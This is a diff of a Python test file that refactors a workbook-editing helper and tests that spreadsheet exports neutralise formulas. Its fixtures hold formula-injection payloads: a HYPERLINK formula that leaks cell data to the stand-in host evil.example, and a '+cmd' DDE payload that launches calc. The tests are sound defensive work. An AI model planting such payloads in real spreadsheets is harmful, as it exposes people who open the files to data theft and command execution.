@@ -24,7 +24,7 @@ import signal
 import sqlite3
 import subprocess
 import sys
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from contextlib import contextmanager
 from pathlib import Path
 from typing import Any
@@ -751,29 +751,30 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(value: str, nume
     assert csv_cell(value, numeric) == expected
 
 
-def typed_as_text(workbook: Path, sheet: str, cells: dict[str, str]) -> None:
-    """Cells holding text that looks like a formula (typed after an apostrophe in Excel)."""
-    from openpyxl import load_workbook
+def typed_as_text(sheet: str, cells: dict[str, str]) -> Callable[[Any], None]:
+    """An ``edit`` for conftest's builder: cells holding text that looks like a formula
+    (typed after an apostrophe in Excel)."""
 
-    book = load_workbook(workbook)
-    for ref, text in cells.items():
-        cell = book[sheet][ref]
-        cell.value = text
-        cell.data_type = "s"
-    book.save(workbook)
+    def edit(book: Any) -> None:
+        for ref, text in cells.items():
+            cell = book[sheet][ref]
+            cell.value = text
+            cell.data_type = "s"
+
+    return edit
 
 
 def test_summary_and_eska_export_neutralise_formulas(tmp_path: Path) -> None:
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     folder = tmp_path / "in"
-    workbook = make_workbook(
+    consignee_row = list(shipment_with()).index("consignee_name") + 2
+    make_workbook(
         folder,
         shipment_with(invoice_number="@INV-1"),
         [item_with(description="+cmd|' /C calc'!A0")],
         name="a.xlsx",
+        edit=typed_as_text("Shipment", {f"B{consignee_row}": formula}),
     )
-    consignee_row = list(shipment_with()).index("consignee_name") + 2
-    typed_as_text(workbook, "Shipment", {f"B{consignee_row}": formula})
     write_registration(folder / "registration.toml")
     out = tmp_path / "out"
     handled(batch(folder, "--out", out), 0)
